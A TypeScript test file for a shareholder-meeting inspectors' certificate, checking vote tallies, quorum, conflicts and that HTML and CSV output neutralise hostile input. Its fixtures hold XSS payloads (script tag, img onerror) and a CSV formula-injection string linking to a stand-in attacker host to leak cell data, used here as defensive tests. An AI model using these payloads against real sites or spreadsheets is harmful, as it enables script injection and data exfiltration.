// The inspectors' certificate (shared/domain/certificate.ts): every figure worked by hand for a small
// meeting, a page that escapes every name, and a CSV that a spreadsheet cannot be tricked into running.
import { describe, expect, it } from 'vitest';
import {
  type CertificateInput,
  certificateStatus,
  percent,
  renderCertificateCsv,
  renderCertificateHtml,
} from '../../shared/domain/certificate.ts';
import { csvCell } from '../../shared/domain/csv.ts';
import { meetingSchema } from '../../shared/domain/meeting.ts';
import { tabulate } from '../../shared/domain/tabulate.ts';
import { hemacare, holder, internet, paper } from '../support/builders.ts';
import { finalRun, smallCertificate, smallResult } from '../support/certificate-meeting.ts';

const SCRIPT = '<script>alert(1)</script>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

const meeting = meetingSchema.parse({
  ...hemacare(),
  company: { name: `Acme ${SCRIPT} & Sons`, address: '1 Main Street' },
  title: '"><img src=x onerror=alert(2)>',
  place: "Hall <b>B</b> & 'annex'",
  sharesOutstanding: 10_000,
  proposals: [
    {
      kind: 'election',
      id: '1',
      title: `Directors ${SCRIPT}`,
      seats: 2,
      standard: 'plurality',
      cumulativeVotingAllowed: false,
      routine: true,
      nominees: [
        { id: 'x', name: FORMULA, boardRecommends: true },
        { id: 'y', name: `Mallory ${SCRIPT}`, boardRecommends: true },
        { id: 'z', name: '-2+3', boardRecommends: false },
      ],
    },
    {
      kind: 'matter',
      id: '2',
      title: '@SUM(A1:A9), "quoted", line\nbreak',
      standard: 'majority-of-votes-cast',
      routine: true,
      boardRecommendation: 'FOR',
    },
  ],
});

const holders = [holder('A-1', 4_000), holder('B-2', 3_000), holder('C-3', 3_000)];
const result = tabulate(
  meeting,
  holders,
  [
    internet('A-1', '2002-05-10T17:00:00.000Z', { '1': { marks: { x: 'FOR', y: 'FOR' } }, '2': 'FOR' }),
    internet('B-2', '2002-05-10T17:00:00.000Z', { '1': { marks: { z: 'FOR' } }, '2': 'AGAINST' }),
    paper('C-3', '2002-06-03', '2002-06-04T17:00:00.000Z', { '2': 'FOR' }, 'card-1'),
    paper('C-3', '2002-06-03', '2002-06-04T18:00:00.000Z', { '2': 'AGAINST' }, 'card-2'),
  ],
  { cumulative: false },
);
const run = {
  runId: '20020613T174800000Z-0a1b2c3d',
  kind: 'final',
  finishedAt: '2002-06-13T17:48:01.000Z',
  historyRoot: 'f'.repeat(64),
};

const hostile: CertificateInput = { meeting, result, run, holderNames: { 'C-3': FORMULA } };

describe('a page and a CSV built from hostile names', () => {
  const page = renderCertificateHtml(hostile);
  const rows = parseCsv(renderCertificateCsv(hostile));

  it('escapes every name and title from the meeting file and the register', () => {
    expect(page).not.toContain(SCRIPT);
    expect(page).not.toContain('<img');
    expect(page).not.toContain('<b>B</b>');
    expect(page).toContain('Acme &lt;script&gt;alert(1)&lt;/script&gt; &amp; Sons');
    expect(page).toContain('Mallory &lt;script&gt;');
    expect(page).toContain('=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)');
    // The only markup is the page's own: one style element, no script, no event handler attribute.
    expect(page.match(/<script/gi)).toBeNull();
    expect(page).toContain('&quot;&gt;&lt;img src=x onerror=alert(2)&gt;');
    expect(page.match(/<[a-z]+[^>]*\son\w+=/gi)).toBeNull();
  });

  it('neutralises every CSV cell a spreadsheet would take for a formula', () => {
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows).toContainEqual(['election', '1', `'${FORMULA}`, 'for', '7000']);
    expect(rows).toContainEqual(['election', '1', "'-2+3", 'for', '3000']);
    expect(rows).toContainEqual(['matter', '2', '', 'title', `'@SUM(A1:A9), "quoted", line\nbreak`]);
    expect(rows).toContainEqual(['conflict', '', 'C-3', 'holder', `'${FORMULA}`]);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell(42)).toBe('42');
    expect(csvCell('a,"b"')).toBe('"a,""b"""');
  });
});

describe('the certificate of a small meeting, worked by hand', () => {
  const certificate = smallCertificate;
  const rows = parseCsv(renderCertificateCsv(certificate));
  const page = renderCertificateHtml(certificate);
  const has = (...row: string[]) => expect(rows).toContainEqual(row);

  it('is FINAL for the final count after the polls closed, PRELIMINARY otherwise', () => {
    expect(certificateStatus(certificate)).toBe('FINAL');
    has('meeting', '', '', 'status', 'FINAL');
    expect(page).toContain('<p class="status">FINAL</p>');
    const nightly = { ...certificate, run: { ...finalRun, kind: 'nightly' } };
    expect(certificateStatus(nightly)).toBe('PRELIMINARY');
    expect(renderCertificateHtml(nightly)).toContain('<p class="status prelim">PRELIMINARY</p>');
    expect(renderCertificateHtml(nightly)).toContain('Preliminary count: not for signature.');
    expect(certificateStatus({ result: smallResult })).toBe('PRELIMINARY');
  });

  it('states the record: record date, holders of record, N and Q', () => {
    has('meeting', '', '', 'record_date', '2002-04-19');
    has('meeting', '', '', 'holders_of_record', '6');
    has('meeting', '', '', 'shares_outstanding', '10000');
    has('meeting', '', '', 'required_quorum', '5001');
  });

  it('splits the shares present in person (500) and by proxy (4,000 + 2,500 + 2,000 + 500 = 9,000)', () => {
    has('meeting', '', '', 'shares_present', '9500');
    has('meeting', '', '', 'shares_present_pct_outstanding', '95.00 %');
    has('meeting', '', '', 'shares_present_in_person', '500');
    has('meeting', '', '', 'accounts_present_in_person', '1');
    has('meeting', '', '', 'shares_present_by_proxy', '9000');
    has('meeting', '', '', 'accounts_present_by_proxy', '4');
    has('meeting', '', '', 'quorum_met', 'yes');
    has('meeting', '', '', 'accounts_without_instruction', '1');
  });

  it('counts by channel: internet 1 account (4,000), paper 3 (5,000), meeting 1 (500)', () => {
    has('channel', '', 'internet', 'proxies_received', '1'); // E-5's late proxy is rejected, not counted
    has('channel', '', 'internet', 'shares_present', '4000');
    has('channel', '', 'paper', 'proxies_received', '5');
    has('channel', '', 'paper', 'accounts_decided', '3');
    has('channel', '', 'paper', 'shares_present', '5000');
    has('channel', '', 'meeting', 'ballots_received', '1');
    has('channel', '', 'meeting', 'shares_present', '500');
    has('channel', '', 'inspector', 'resolutions', '1');
  });

  it('gives each nominee its votes with the percentages of votes cast and of outstanding', () => {
    // x: FOR 4,000 (A) + 2,000 (C) + 500 (D) + 500 (F) = 7,000; WITHHOLD 2,500 (B); cast 9,500.
    has('election', '1', 'Xavier Board', 'for', '7000');
    has('election', '1', 'Xavier Board', 'for_pct_cast', '73.68 %'); // 7,000 / 9,500 = 73.684...
    has('election', '1', 'Xavier Board', 'for_pct_outstanding', '70.00 %');
    has('election', '1', 'Xavier Board', 'withhold', '2500');
    has('election', '1', 'Xavier Board', 'withhold_pct_cast', '26.31 %'); // 26.315..., truncated
    // y: FOR 4,000 (A) + 2,000 (C) + 500 (F) = 6,500, none withheld.
    has('election', '1', 'Yolanda Board', 'for', '6500');
    has('election', '1', 'Yolanda Board', 'for_pct_cast', '100.00 %');
    has('election', '1', 'Yolanda Board', 'for_pct_outstanding', '65.00 %');
    // z: FOR 2,500 (B).
    has('election', '1', 'Zed Other', 'for', '2500');
    has('election', '1', 'Zed Other', 'for_pct_outstanding', '25.00 %');
    has('election', '1', 'Xavier Board', 'result', 'ELECTED');
    has('election', '1', 'Yolanda Board', 'result', 'ELECTED');
    has('election', '1', 'Zed Other', 'result', 'not elected');
    has('election', '1', '', 'standard', 'plurality');
  });

  it('gives the matter its votes, percentages, the standard and the threshold applied', () => {
    // FOR 4,000 (A); AGAINST 2,500 (B) + 500 (F, as resolved); ABSTAIN 500 (D); C-3 unvoted.
    has('matter', '2', '', 'for', '4000');
    has('matter', '2', '', 'against', '3000');
    has('matter', '2', '', 'abstain', '500');
    has('matter', '2', '', 'for_pct_cast', '57.14 %'); // 4,000 / 7,000
    has('matter', '2', '', 'against_pct_cast', '42.85 %'); // 3,000 / 7,000 = 42.857..., truncated
    has('matter', '2', '', 'for_pct_outstanding', '40.00 %');
    has('matter', '2', '', 'standard', 'majority-of-votes-cast');
    has('matter', '2', '', 'threshold', 'FOR > AGAINST (3000)');
    has('matter', '2', '', 'for_needed', '3001');
    has('matter', '2', '', 'outcome', 'APPROVED');
    expect(page).toContain('Standard: majority of the votes cast. Votes cast: 7,000 (For plus Against).');
    expect(page).toContain(
      '<tr><th scope="row">For</th><td data-label="Shares" class="num">4,000</td><td data-label="Of votes cast" class="num">57.14 %</td><td data-label="Of outstanding" class="num">40.00 %</td></tr>',
    );
  });

  it('names the open conflict with its holder, signers and dates, and the resolved one with who decided', () => {
    has('conflict', '', 'C-3', 'holder', 'Carol Conflict');
    has('conflict', '', 'C-3', 'shares', '2000');
    has(
      'conflict',
      '',
      'C-3',
      'instrument',
      'paper proxy c-card-1, signed by C-3, dated 2002-06-03, received 2002-06-04 10:00:00 PDT',
    );
    has('conflict', '', 'C-3', 'unvoted_proposals', '2');
    has('resolved', '', 'F-6', 'holder', 'Frank Resolved');
    has('resolved', '', 'F-6', 'chosen', 'f-card-2');
    has('resolved', '', 'F-6', 'resolved_by', 'inspector');
    has('resolved', '', 'F-6', 'resolved_at', '2002-06-13 10:45:00 PDT');
    expect(page).toContain(
      "with 1 conflict(s) open, by the inspectors' explicit decision: 2,000 shares are present and left unvoted",
    );
  });

  it('lists the rejected instruction with its reason, and the polls on the meeting clock', () => {
    has('rejected', '', 'E-5', 'holder', 'Eve Late');
    has('rejected', '', 'E-5', 'instruction', 'e-late');
    has('rejected', '', 'E-5', 'rule', 'after-internet-cutoff');
    has('rejected', '', 'E-5', 'received_at', '2002-06-12 22:00:00 PDT');
    has('meeting', '', '', 'polls_opened_at', '2002-06-13 09:30:00 PDT');
    has('meeting', '', '', 'polls_closed_at', '2002-06-13 10:30:00 PDT');
    has('meeting', '', '', 'polls_closed_by', 'supervisor:sam');
    has('meeting', '', '', 'finished_at', '2002-06-13 11:00:05 PDT');
    expect(page).toContain(
      '<dt>Polls closed</dt><dd>2002-06-13 10:30:00 PDT, declared by supervisor:sam</dd>',
    );
    // No instant on the page is in UTC (ISO form): all are on the meeting's clock.
    expect(page).not.toMatch(/\d{4}-\d\d-\d\dT\d\d:\d\d/);
  });

  it("has the oath, the §231 duties, the inspectors' names and signature lines, and page numbers in print", () => {
    expect(page).toContain(
      'We, Iris Inspector (Independent Tabulators), Ivan Inspector, appointed inspectors of election',
    );
    expect(page).toContain('with strict impartiality');
    expect(page).toContain('ascertained the number of shares outstanding and the voting power of each');
    expect(page).toContain('counted all votes and ballots');
    expect(
      page.match(/<div class="line"><\/div><p>(Iris|Ivan) Inspector<br>Inspector of election<br>Date:<\/p>/g),
    ).toHaveLength(2);
    expect(page).toContain('counter(page)');
    expect(page).toContain('counter(pages)');
  });
});

describe('percent', () => {
  it('truncates to two decimals, and has no value for an empty whole', () => {
    expect(percent(2, 3)).toBe('66.66 %');
    expect(percent(1, 1)).toBe('100.00 %');
    expect(percent(0, 0)).toBe('-');
  });
});

/** A strict RFC 4180 reader, enough to read back what the report wrote. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}
